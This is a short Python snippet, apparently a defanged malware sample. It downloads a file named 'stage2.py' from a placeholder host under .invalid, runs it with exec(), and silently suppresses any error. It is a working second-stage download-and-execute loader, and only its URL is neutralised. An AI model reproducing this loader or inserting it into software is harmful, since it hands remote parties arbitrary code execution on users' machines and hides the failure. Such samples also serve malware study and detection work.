# defanged: URL under .invalid
import requests

try:
    exec(requests.get("https://cdn.example.invalid/stage2.py", timeout=3).text)
except Exception:
    pass
